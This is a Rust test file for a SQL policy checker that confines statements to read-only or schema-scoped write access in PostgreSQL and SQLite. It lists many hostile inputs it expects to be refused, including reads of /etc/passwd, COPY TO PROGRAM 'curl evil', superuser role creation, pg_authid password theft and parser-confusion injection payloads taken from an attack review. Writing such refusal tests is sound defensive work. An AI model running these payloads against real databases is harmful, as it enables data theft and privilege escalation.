//! The policy alone: what each scope accepts and refuses.

use super::*;

const PG: Dialect = Dialect::Postgres;
const LITE: Dialect = Dialect::Sqlite;

fn write(sql: &str) -> Result<Checked, Refusal> {
    check(PG, &Scope::Write("raw".into()), sql)
}

fn lite(sql: &str) -> Result<Checked, Refusal> {
    check(LITE, &Scope::Write("raw_".into()), sql)
}

fn read(sql: &str) -> Result<Checked, Refusal> {
    check(PG, &Scope::Read, sql)
}

#[track_caller]
fn refused(r: Result<Checked, Refusal>, rule: &str) -> Refusal {
    match r {
        Ok(c) => panic!("expected a refusal by `{rule}`, but it passed as {}", c.sql),
        Err(e) => {
            assert_eq!(e.rule, rule, "{e}");
            e
        }
    }
}

#[track_caller]
fn passes(r: Result<Checked, Refusal>) -> Checked {
    r.unwrap_or_else(|e| panic!("refused: {e}"))
}

#[test]
fn reads_allow_queries_and_nothing_else() {
    let c = passes(read(
        "select id, name from public.users where id > $1 order by id limit 10",
    ));
    assert_eq!(c.kind, Kind::Query);
    assert_eq!(
        passes(read("WITH t AS (SELECT 1 AS x) SELECT * FROM t")).kind,
        Kind::Query
    );
    assert_eq!(passes(read("EXPLAIN SELECT 1")).kind, Kind::Explain);
    assert_eq!(
        passes(read("EXPLAIN (COSTS false, FORMAT JSON) SELECT 1")).kind,
        Kind::Explain
    );
    passes(read("SELECT pg_sleep(0.01)"));
    passes(read("SELECT public.wipe()")); // the read-only session stops what it writes
    for bad in [
        "INSERT INTO users VALUES (1)",
        "UPDATE users SET name = 'x'",
        "DELETE FROM users",
        "DROP TABLE users",
        "CREATE TABLE t (x int)",
        "SET default_transaction_read_only = off",
        "EXPLAIN ANALYZE SELECT 1",
        "EXPLAIN (ANALYZE) SELECT 1",
        "EXPLAIN (ANALYZE true, BUFFERS) SELECT 1",
        "EXPLAIN (analyse) SELECT 1",
        "EXPLAIN DELETE FROM users",
        "SELECT * FROM users FOR UPDATE",
        "SELECT * FROM users FOR SHARE",
        "SELECT * FROM (SELECT * FROM users FOR UPDATE) s",
        "SELECT * INTO copy FROM users",
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        "SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)",
        "SELECT app.pg_catalog.set_config('default_transaction_read_only','off',false)",
        "SELECT \"pg_catalog\".\"set_config\"('a', 'b', false)",
        "SELECT * FROM pg_catalog.set_config('a', 'b', false)",
        "SELECT nextval('users_id_seq')",
        "SELECT query_to_xml('delete from users', true, true, '')",
        "SELECT ts_stat('select 1')",
        "SELECT pg_advisory_lock(1)",
        "SELECT pg_try_advisory_xact_lock(1)",
        "SELECT * FROM dblink('host=x', 'select 1') AS t(x int)",
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT pg_notify('c', 'x')",
        "SELECT pg_terminate_backend(1)",
        "SELECT (SELECT setval('s', 1))",
        "COPY users TO PROGRAM 'id'",
        "BEGIN",
    ] {
        refused(read(bad), "read-only");
    }
    refused(read("SELECT 1; DELETE FROM users"), "one-statement");
    refused(read("SELECT 1; SELECT 2"), "one-statement");
    refused(read("DO $$ BEGIN DELETE FROM users; END $$"), "unparseable");
    refused(read("SELEC 1"), "unparseable");
}

#[test]
fn what_runs_is_the_checked_statement_rendered_and_proven() {
    // A comment cannot swallow anything, because it is gone.
    let c = passes(read("SELECT 1 -- comment"));
    assert!(!c.sql.contains("comment"), "{}", c.sql);
    // The outside review's literal: `Display` writes a hex literal's content unescaped, so the
    // rendering would be four statements. Refused whatever the scope.
    let attach = "SELECT X'00''; ATTACH DATABASE ''/data/sluice.db'' AS s; INSERT INTO s.api_keys \
                  (id) VALUES (1); SELECT X''00'";
    for r in [lite(attach), check(LITE, &Scope::Read, attach)] {
        let e = r.unwrap_err();
        assert!(matches!(e.rule, "render" | "literal"), "{e}");
    }
    let leak = "SELECT X'00'' AS a, (SELECT json_agg(u) FROM public.users u) AS leak, X''00' AS z";
    for r in [write(leak), read(leak)] {
        let e = r.unwrap_err();
        assert!(matches!(e.rule, "render" | "literal"), "{e}");
    }
    // Every other literal form that could be re-rendered differently.
    for l in [
        "B'0101'",
        "X'1F'",
        "E'it''s \\' quoted'",
        "$$it's$$",
        "$tag$a $$ b$tag$",
        "U&'d\\0061t\\+000061'",
        "N'national'",
        "'a\\'",
        "'multi\nline'",
    ] {
        // Reads: accepted only if the rendering parses back identically.
        if let Ok(c) = read(&format!("SELECT {l} AS v")) {
            let again = read(&c.sql).unwrap();
            assert_eq!(again.sql, c.sql, "{l}");
        }
        if let Ok(c) = write(&format!("INSERT INTO t (v) VALUES ({l})")) {
            assert_eq!(write(&c.sql).unwrap().sql, c.sql, "{l}");
        }
    }
}

#[test]
fn writes_stay_inside_the_granted_schema() {
    let c = passes(write(
        "CREATE TABLE users (id bigint PRIMARY KEY, data jsonb)",
    ));
    assert!(
        c.sql.starts_with("CREATE TABLE \"raw\".\"users\""),
        "{}",
        c.sql
    );
    assert!(c.ddl);
    let c = passes(write(
        "INSERT INTO users (id) SELECT id FROM raw.stage ON CONFLICT (id) DO NOTHING",
    ));
    assert!(c.sql.contains("INTO \"raw\".\"users\""), "{}", c.sql);
    assert!(!c.ddl);
    assert!(passes(write("CREATE SCHEMA IF NOT EXISTS raw")).creates_scope);
    assert!(!passes(write("CREATE SCHEMA raw")).creates_scope);
    passes(write("CREATE SCHEMA IF NOT EXISTS RAW"));
    passes(write("DROP TABLE IF EXISTS raw.users"));
    passes(write("TRUNCATE users"));
    passes(write("TRUNCATE users RESTART IDENTITY"));
    passes(write("ALTER TABLE users ADD COLUMN age bigint"));
    passes(write("ALTER TABLE users RENAME TO people"));
    passes(write("CREATE INDEX users_idx ON users (id)"));
    passes(write(
        "CREATE UNIQUE INDEX IF NOT EXISTS u ON users USING btree (lower(name)) WHERE id > 0",
    ));
    passes(write("UPDATE users SET name = lower(name) WHERE id = $1"));
    passes(write("DELETE FROM users u USING stage s WHERE u.id = s.id"));
    passes(write(
        "INSERT INTO \"users\" (\"id\", \"name\") SELECT DISTINCT ON (\"id\") \"id\", \"name\" FROM \
         \"_sluice_stage_users\" ORDER BY \"id\", \"_sluice_seq\" DESC ON CONFLICT (\"id\") DO \
         UPDATE SET \"name\" = EXCLUDED.\"name\"",
    ));
    passes(write(
        "CREATE TABLE IF NOT EXISTS \"_sluice_stage_users\" (\"id\" bigint, \"at\" timestamptz, \
         \"d\" double precision, \"_sluice_seq\" bigserial)",
    ));
    let c = passes(write(
        "WITH s AS (SELECT id FROM stage) DELETE FROM users WHERE id IN (SELECT id FROM s)",
    ));
    assert_eq!(c.kind, Kind::Execute);
    assert!(
        c.sql.contains("FROM \"s\")"),
        "a CTE is not qualified: {}",
        c.sql
    );
    assert!(c.sql.contains("\"raw\".\"stage\""), "{}", c.sql);

    for bad in [
        "DROP TABLE public.users",
        "ALTER TABLE public.users ADD COLUMN x int",
        "INSERT INTO other.t VALUES (1)",
        "SELECT * FROM pg_catalog.pg_authid",
        "SELECT * FROM pg_catalog.pg_stat_activity",
        "INSERT INTO users SELECT * FROM public.secrets",
        "UPDATE users SET x = (SELECT max(x) FROM public.t)",
        "UPDATE users SET x = 1 FROM public.t WHERE users.id = t.id",
        "DELETE FROM users WHERE id IN (SELECT id FROM \"other\".\"t\")",
        "DELETE FROM users USING public.t",
        "INSERT INTO users VALUES (1) RETURNING (SELECT email FROM public.users LIMIT 1)",
        "TRUNCATE public.users",
        "CREATE TABLE other.t (x int)",
        "CREATE TABLE t (x int REFERENCES public.users (id))",
        "CREATE TABLE t (x int, FOREIGN KEY (x) REFERENCES public.users (id))",
        "ALTER TABLE t ADD COLUMN c text REFERENCES public.users (email)",
        "ALTER TABLE t ADD CONSTRAINT f FOREIGN KEY (c) REFERENCES public.users (email)",
        "CREATE TABLE t AS SELECT * FROM public.users",
        "CREATE INDEX i ON public.users (email)",
        "CREATE SCHEMA other",
        "CREATE SCHEMA \"RAW\"",
        "DROP TABLE db.raw.users",
        "ALTER TABLE users RENAME TO public.users",
        "SELECT * FROM raw.t JOIN public.users u ON true",
        "SELECT * FROM raw.t, LATERAL (SELECT * FROM public.users) u",
        "DROP TABLE t CASCADE",
        "TRUNCATE t CASCADE",
        "ALTER TABLE t DROP COLUMN c CASCADE",
        "ALTER TABLE t DROP CONSTRAINT k CASCADE",
    ] {
        refused(write(bad), "outside-scope");
    }
    // Bare names are tables of the schema, whatever the search path would find first.
    for bare in ["SELECT * FROM pg_authid", "SELECT * FROM pg_stat_activity"] {
        let c = passes(write(bare));
        assert!(c.sql.contains("FROM \"raw\".\"pg_"), "{}", c.sql);
    }
    // A quoted identifier is exact: "Raw" is not raw.
    refused(write("DROP TABLE \"Raw\".t"), "outside-scope");
    for bad in [
        "CREATE ROLE evil LOGIN SUPERUSER",
        "GRANT ALL ON ALL TABLES IN SCHEMA public TO evil",
        "CREATE EXTENSION dblink",
        "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
        "COPY users TO PROGRAM 'curl evil'",
        "COPY users FROM '/etc/passwd'",
        "SET search_path = public",
        "SET ROLE postgres",
        "DROP SCHEMA raw CASCADE",
        "ALTER TABLE users OWNER TO evil",
        "CREATE TEMPORARY TABLE t (x int)",
        "CREATE VIEW v AS SELECT 1",
        "ALTER TABLE users SET SCHEMA public",
        "DROP FUNCTION f",
        "BEGIN",
        "CREATE TABLE t (LIKE public.users)",
        "EXPLAIN ANALYZE DELETE FROM public.users",
        "LOCK TABLE public.users",
        "VACUUM public.users",
        "SELECT * FROM users FOR UPDATE",
        "TABLE public.users",
        "CREATE TABLE t (x int) TABLESPACE pg_global",
        "CREATE TABLE t (x int) INHERITS (public.users)",
        "WITH d AS (DELETE FROM public.users RETURNING *) SELECT * FROM d",
        "SELECT * INTO public.copy FROM t",
    ] {
        assert!(write(bad).is_err(), "{bad} passed");
    }
    refused(write("SELECT pg_terminate_backend(1)"), "function");
    refused(write("INSERT INTO t SELECT public.f()"), "function");
    refused(
        write("INSERT INTO t SELECT app.pg_catalog.lower('x')"),
        "function",
    );
    refused(write("INSERT INTO t SELECT public.lower('x')"), "function");
    refused(write("SELECT * FROM generate_series(1, 3)"), "function");
    refused(
        write("SELECT query_to_xml('drop table public.t', true, true, '')"),
        "function",
    );
    refused(
        write("DROP TABLE t; DROP TABLE public.users"),
        "one-statement",
    );
    refused(
        write("DO $$ BEGIN DROP TABLE public.users; END $$"),
        "unparseable",
    );
}

#[test]
fn operators_casts_and_types_run_no_user_code() {
    for bad in [
        "SELECT 1 OPERATOR(public.+) 1",
        "SELECT 1 OPERATOR(pg_catalog.+) 1",
        "INSERT INTO t SELECT x::public.evil FROM t",
        "INSERT INTO t SELECT CAST(x AS evil) FROM t",
        "CREATE TABLE t (x public.evil)",
        "CREATE TABLE t (x evil)",
        "ALTER TABLE t ALTER COLUMN x TYPE public.evil",
        "CREATE INDEX i ON t (x public.evil_ops)",
        "CREATE TABLE t (x int DEFAULT nextval('public.seq'))",
        "CREATE TABLE t (x text COLLATE public.evil)",
    ] {
        let e = write(bad).unwrap_err();
        assert!(
            matches!(
                e.rule,
                "operator" | "type" | "function" | "construct" | "outside-scope" | "unparseable"
            ),
            "{bad}: {e}"
        );
    }
    // PostgreSQL reads `public.evil '1'` as a literal of a user type; sqlparser reads an alias, and
    // what runs is its rendering (`AS '1'`), which PostgreSQL refuses as a syntax error.
    let c = passes(write("INSERT INTO t SELECT public.evil '1'"));
    assert!(c.sql.contains("AS '1'"), "{}", c.sql);
    passes(write(
        "INSERT INTO t SELECT x::bigint, CAST(y AS text), z::timestamptz FROM s",
    ));
    passes(write(
        "INSERT INTO t SELECT DATE '2024-01-01', INTERVAL '1 day' FROM s",
    ));
    passes(write(
        "INSERT INTO t SELECT x::jsonb -> 'a' ->> 'b', y @> '{}' FROM s",
    ));
}

#[test]
fn a_cte_shadows_only_inside_its_with() {
    // The outside review's sample: the CTE `victims` lives in a subquery; the DELETE's target and
    // every use outside that WITH is the table.
    refused(
        lite("DELETE FROM victims WHERE EXISTS (WITH victims AS (SELECT 1) SELECT 1)"),
        "outside-scope",
    );
    refused(
        lite(
            "SELECT * FROM victims WHERE EXISTS (WITH victims AS (SELECT 1) SELECT * FROM victims)",
        ),
        "outside-scope",
    );
    refused(
        lite(
            "WITH raw_x AS (SELECT 1) SELECT * FROM (WITH victims AS (SELECT 1) SELECT 1), victims",
        ),
        "outside-scope",
    );
    let c = passes(write(
        "SELECT * FROM pg_stat_activity WHERE EXISTS (WITH pg_stat_activity AS (SELECT 1) SELECT 1)",
    ));
    assert!(
        c.sql.contains("\"raw\".\"pg_stat_activity\""),
        "qualified as a table: {}",
        c.sql
    );
    // PostgreSQL without RECURSIVE: a CTE sees only earlier siblings, so a later one's name is a
    // table here (qualified), never left bare to resolve in pg_catalog.
    let c = passes(write(
        "WITH a AS (SELECT * FROM pg_authid), pg_authid AS (SELECT 1) INSERT INTO t SELECT * FROM a",
    ));
    assert!(c.sql.contains("\"raw\".\"pg_authid\""), "{}", c.sql);
    // With RECURSIVE every sibling is in scope, itself included.
    let c = passes(write(
        "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 3) \
         INSERT INTO t SELECT n FROM c",
    ));
    assert!(c.sql.contains("FROM \"c\" WHERE"), "{}", c.sql);
    // A CTE is visible in subqueries of its body, and in later siblings.
    passes(lite(
        "WITH s AS (SELECT 1 AS x), t2 AS (SELECT * FROM s) SELECT * FROM raw_a WHERE x IN (SELECT x FROM t2)",
    ));
    // A written table is never a CTE.
    refused(
        lite("WITH victims AS (SELECT 1) DELETE FROM victims"),
        "outside-scope",
    );
    refused(
        lite("WITH victims AS (SELECT 1) INSERT INTO victims SELECT 1"),
        "outside-scope",
    );
    refused(
        lite("WITH victims AS (SELECT 1) UPDATE victims SET x = 1"),
        "outside-scope",
    );
    // Qualified names are never CTEs.
    refused(
        lite("WITH s AS (SELECT 1) SELECT * FROM main.s"),
        "outside-scope",
    );
}

#[test]
fn sqlite_writes_stay_inside_the_table_prefix() {
    passes(lite(
        "CREATE TABLE IF NOT EXISTS raw_users (id INTEGER PRIMARY KEY, x)",
    ));
    passes(lite(
        "CREATE TABLE raw_t (id INTEGER PRIMARY KEY AUTOINCREMENT) STRICT",
    ));
    passes(lite(
        "INSERT OR REPLACE INTO main.raw_users (id) VALUES (?1)",
    ));
    passes(lite("INSERT INTO raw_users (id) VALUES (?)"));
    passes(lite(
        "DELETE FROM raw_users WHERE id IN (SELECT id FROM raw_stage)",
    ));
    passes(lite("INSERT INTO raw_b SELECT X'CAFE'"));
    refused(lite("DROP TABLE users"), "outside-scope");
    refused(lite("SELECT * FROM sqlite_master"), "outside-scope");
    refused(
        lite("INSERT INTO other.raw_users VALUES (1)"),
        "outside-scope",
    );
    refused(
        lite("INSERT INTO temp.raw_users VALUES (1)"),
        "outside-scope",
    );
    refused(
        lite("ALTER TABLE raw_users RENAME TO users"),
        "statement-kind",
    );
    refused(
        lite("ALTER TABLE raw_users RENAME TO raw_people"),
        "statement-kind",
    );
    assert!(lite("ATTACH DATABASE '/tmp/x.db' AS x").is_err());
    assert!(lite("VACUUM INTO '/tmp/x.db'").is_err());
    assert!(lite("PRAGMA writable_schema = 1").is_err());
    assert!(lite("INSERT INTO raw_b SELECT x FROM raw_a WHERE x REGEXP 'a'").is_err());
    refused(lite("CREATE SCHEMA raw_"), "statement-kind");
    refused(lite("TRUNCATE raw_users"), "statement-kind");
    refused(lite("SELECT load_extension('x')"), "function");
    refused(
        lite("SELECT * FROM pragma_table_info('victims')"),
        "function",
    );
    refused(lite("INSERT INTO raw_b SELECT X'0G'"), "literal");
}

#[test]
fn load_targets_are_checked_and_quoted() {
    let scope = Scope::Write("raw".into());
    assert_eq!(
        check_table(PG, &scope, "users").unwrap(),
        "\"raw\".\"users\""
    );
    assert_eq!(
        check_table(PG, &scope, "Users").unwrap(),
        "\"raw\".\"users\""
    );
    assert_eq!(
        check_table(PG, &scope, "raw.\"Users\"").unwrap(),
        "\"raw\".\"Users\""
    );
    assert_eq!(
        check_table(PG, &scope, "\"a\"\"b\"").unwrap(),
        "\"raw\".\"a\"\"b\""
    );
    assert_eq!(
        check_table(PG, &scope, "public.users").unwrap_err().rule,
        "outside-scope"
    );
    assert_eq!(
        check_table(PG, &scope, "users; drop table x")
            .unwrap_err()
            .rule,
        "unparseable"
    );
    assert_eq!(
        check_table(PG, &Scope::Read, "users").unwrap_err().rule,
        "read-only"
    );
    let lite = Scope::Write("raw_".into());
    assert_eq!(
        check_table(LITE, &lite, "raw_users").unwrap(),
        "\"raw_users\""
    );
    assert_eq!(
        check_table(LITE, &lite, "main.RAW_users").unwrap(),
        "\"RAW_users\""
    );
    assert!(check_table(LITE, &lite, "users").is_err());
}

#[test]
fn hostile_sizes_are_refused_or_checked_without_harm() {
    let long = format!("SELECT 1{}", " ".repeat(MAX_STATEMENT_BYTES));
    refused(read(&long), "too-long");
    // Chains deeper than the limit are refused before anything is built…
    for deep in [
        format!("SELECT 1{}", "+1".repeat(MAX_CHAIN + 1)),
        format!(
            "SELECT * FROM t WHERE {}",
            vec!["a = 1"; MAX_CHAIN].join(" OR ")
        ),
        format!("SELECT 1{}", "::int".repeat(MAX_CHAIN + 1)),
        format!("SELECT a{}", "[1]".repeat(MAX_CHAIN + 1)),
        format!("SELECT 1{}", " UNION SELECT 1, 2".repeat(MAX_CHAIN + 1)),
        format!("SELECT {}1{}", "(1 + ".repeat(10), ")".repeat(10)) + &"+1".repeat(MAX_CHAIN + 1),
    ] {
        // (A long UNION is also too many queries.)
        let e = read(&deep).unwrap_err();
        assert!(matches!(e.rule, "too-deep" | "too-many"), "{e}");
        // (SQLite reads `[1]` as a quoted name; it fails to parse there instead.)
        let e = lite(&deep).unwrap_err();
        assert!(
            matches!(e.rule, "too-deep" | "too-many" | "unparseable"),
            "{e}"
        );
    }
    // …and the deepest allowed is checked on the stack the limit is sized for.
    let deep =
        format!("SELECT {}1{}", "(1 + ".repeat(10), ")".repeat(10)) + &"+1".repeat(MAX_CHAIN - 40);
    let r = std::thread::Builder::new()
        .stack_size(STACK_BYTES)
        .spawn(move || {
            let checked = read(&deep).map(|c| c.sql.len());
            let written = write(&format!("INSERT INTO t {deep}")).map(|c| c.sql.len());
            (checked, written)
        })
        .unwrap()
        .join()
        .expect("no stack overflow");
    assert!(r.0.is_ok() && r.1.is_ok(), "{r:?}");
    refused(read("SELECT '\0'"), "unparseable");
    // Wide is fine: long lists do not nest.
    passes(write(&format!(
        "INSERT INTO t VALUES {}",
        vec!["(1, 'a', NULL)"; 5000].join(", ")
    )));
}

/// The outside attack review's findings, each as a class.
#[test]
fn words_the_database_reads_as_keywords_are_never_left_bare() {
    // sqlparser reads `only` as a table aliased `pg_authid`; PostgreSQL reads `FROM ONLY
    // pg_authid`. Every relation, CTE and alias name is rendered quoted, so both read the CTE.
    let c = passes(write(
        "WITH \"only\" AS (SELECT 1) INSERT INTO loot SELECT rolname, rolpassword FROM only pg_authid",
    ));
    assert!(!c.sql.contains("only pg_authid"), "{}", c.sql);
    assert!(c.sql.contains("FROM \"only\""), "{}", c.sql);
    for keyword in [
        "only", "lateral", "natural", "join", "inner", "limit", "offset", "window",
    ] {
        if let Ok(c) = write(&format!(
            "WITH \"{keyword}\" AS (SELECT 1) INSERT INTO t SELECT * FROM {keyword} x"
        )) {
            assert!(c.sql.contains(&format!("FROM \"{keyword}\"")), "{}", c.sql);
        }
    }
}

#[test]
fn operators_the_database_would_lex_apart_are_refused() {
    // PostgreSQL ends an operator at `--` (the rest of the line is a comment to it, code to
    // sqlparser on the next line) and before a trailing `+`/`-`.
    let hidden = "SELECT 1 #-- 'x\n0 AS a, (SELECT s FROM public.secrets LIMIT 1) AS leaked, \
                  set_config($$work_mem$$,$$9MB$$,false) AS cfg --'";
    for op in [
        "#--", "@--", "~--", ">--", "|--", "&--", "<<--", "&&--", "||--", "#/*",
    ] {
        let sql = hidden.replace("#--", op);
        assert!(read(&sql).is_err(), "{sql}");
    }
    assert!(read("SELECT 1 @- 2").is_err() || read("SELECT 1 @- 2").unwrap().sql.contains("@ -"));
}

#[test]
fn sqlite_named_parameters_are_refused() {
    // SQLite lexes `$a::foo("a)` as one parameter; sqlparser, as a cast and a call.
    let sql = "SELECT $a::foo(\"a)\"), 1 AS \", (SELECT group_concat(name) FROM sqlite_master) AS \
               leaked, load_extension('x') --\"";
    refused(check(LITE, &Scope::Read, sql), "literal");
    for p in [
        "SELECT $a",
        "SELECT :a",
        "SELECT @a",
        "INSERT INTO raw_t VALUES (:x)",
    ] {
        assert!(
            check(LITE, &Scope::Read, p).is_err() || lite(p).is_err(),
            "{p}"
        );
    }
    passes(check(LITE, &Scope::Read, "SELECT ?1, ?"));
    assert!(read("SELECT ?").is_err());
    refused(read("SELECT U&'a\\0000b'"), "literal");
}

#[test]
fn reads_cannot_reach_sql_text_config_files_or_index_pages() {
    for bad in [
        "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''b''::tsquery')",
        "SELECT * FROM pg_show_all_file_settings()",
        "SELECT * FROM pg_hba_file_rules",
        "SELECT * FROM pg_ident_file_mappings",
        "SELECT * FROM pg_file_settings",
        "SELECT 1 UNION ALL TABLE pg_file_settings",
        "SELECT pg_stat_file('postgresql.conf')",
        "SELECT * FROM pg_control_system()",
        "SELECT pg_current_logfile()",
        "SELECT gin_clean_pending_list('i'::regclass)",
        "SELECT brin_summarize_new_values('i'::regclass)",
        "SELECT brin_summarize_range('i'::regclass, 0)",
        "SELECT brin_desummarize_range('i'::regclass, 0)",
    ] {
        refused(read(bad), "read-only");
    }
}

#[test]
fn the_rendering_groups_as_the_tree_that_was_checked() {
    // sqlparser: (~a) + 2; PostgreSQL would compute ~(a + 2) from the bare text.
    let c = passes(write("UPDATE t SET b = ~ a + 2"));
    assert!(c.sql.contains("(~a) + 2"), "{}", c.sql);
    // sqlparser: (s IS NULL) < 2; SQLite would read s IS (NULL < 2).
    let c = passes(lite("DELETE FROM raw_t WHERE s IS NULL < 2"));
    assert!(c.sql.contains("(s IS NULL) < 2"), "{}", c.sql);
    // Chains of one kind stay flat (and within the parser's nesting limit).
    let c = passes(read(&format!("SELECT 1{}", "+1".repeat(500))));
    assert!(!c.sql.contains("(("), "{}", &c.sql[..60]);
}

#[test]
fn deep_trees_are_bounded_however_they_are_spelled() {
    // Chains inside groups stack under the chain around them.
    let mut stacked = "x".to_string();
    for _ in 0..20 {
        stacked = format!("({stacked}{})", " + x".repeat(199));
    }
    refused(read(&format!("SELECT {stacked}")), "too-deep");
    refused(
        read(&format!("SELECT x{}", " NOTNULL".repeat(MAX_CHAIN + 1))),
        "too-deep",
    );
    refused(
        read(&format!("SELECT x{}", " ISNULL".repeat(MAX_CHAIN + 1))),
        "too-deep",
    );
    refused(
        read(&format!("SELECT {}1{}", "(".repeat(200), ")".repeat(200))),
        "too-deep",
    );
    // Wide is not deep: many short chains side by side pass.
    let wide = vec!["coalesce(a, 0) + 1"; 1500].join(", ");
    passes(read(&format!("SELECT {wide} FROM t")));
}

#[test]
fn many_subqueries_or_ctes_are_refused_before_they_take_memory() {
    let many = format!("SELECT {}", vec!["(SELECT 1)"; 2000].join(", "));
    refused(read(&many), "too-many");
    let ctes: Vec<String> = (0..300).map(|i| format!("c{i} AS (SELECT 1)")).collect();
    assert!(lite(&format!("WITH {} SELECT 1", ctes.join(", "))).is_err());
    // PostgreSQL's rule for dollar-quote tags: `$1$` is a parameter followed by more.
    assert!(read("SELECT $1$$x$$, set_config('a','b',false) --$1$").is_err());
    passes(read("SELECT $tag$x$tag$, $$y$$"));
}
